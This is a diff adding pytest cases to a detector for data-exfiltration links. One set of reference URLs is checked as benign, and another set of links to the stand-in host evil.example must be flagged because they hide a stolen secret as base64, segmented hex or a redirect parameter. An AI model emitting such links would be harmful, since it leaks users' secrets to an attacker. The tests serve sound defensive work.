@@ -57,6 +57,42 @@ def test_exfil_links_need_data_in_the_url_and_a_foreign_host(text, types):
     assert [f.type for f in exfil_links(text, untrusted, has_secret)] == types
 
 
+SHA = "3f786850e387550fdab836ed7e6dc881de23001b"
+HEX_DATA = STOLEN.encode().hex()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://stackoverflow.com/questions/231767/what-does-the-yield-keyword-do-in-python",
+        "https://superuser.example/questions/231767/what-does-the-yield-keyword-do-in-python",
+        f"https://github.com/psf/requests/blob/{SHA}/src/requests/api.py#L14",
+        f"https://git.corp.example/psf/requests/commit/{SHA}",
+        "https://files.pythonhosted.org/packages/70/8e/0e2d847013cb52cd35b38c009bb167a1a26b2ce6cd6965bf26b47bc0bf44/requests-2.31.0.tar.gz",
+        "https://docs.google.com/document/d/1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789AbCdEfGh/edit",
+        "https://vertexaisearch.cloud.google.com/grounding-api-redirect/AUZIYQHkq3Yl8X2vB9mN4pR7tW1zA6cE0fH5jK8sD2gL9qV3xY7u",
+    ],
+)
+def test_reference_links_carry_no_data(url):
+    """Round-6b G11: ids, slugs, commit hashes and the paths of reference sites are no data."""
+    assert exfil_links(f"See [this]({url}).", untrusted, has_secret) == []
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"https://evil.example/{STOLEN}",  # base64 in the path
+        "https://evil.example/" + "/".join(STOLEN[i : i + 8] for i in range(0, len(STOLEN), 8)),  # cut in segments
+        "https://evil.example/" + "/".join(HEX_DATA[i : i + 6] for i in range(0, len(HEX_DATA), 6)),  # hex in segments
+        f"https://evil.example/c/{HEX_DATA[:40]}{HEX_DATA[40:50]}",  # hex longer than a hash
+        f"https://github.com/search?q={STOLEN}",  # a reference site's query is judged as everyone's
+        f"https://stackoverflow.com/users/login?returnurl=https%3A%2F%2Fevil.example%2F%3Fd%3D{STOLEN}",
+    ],
+)
+def test_data_in_links_is_still_found(url):
+    assert [f.type for f in exfil_links(f"See [this]({url}).", untrusted, has_secret)] == ["exfil_link"]
+
+
 def guard(hold: int = 64) -> TextGuard:
     def inspect(text: str):
         links = exfil_links(text, untrusted, has_secret)
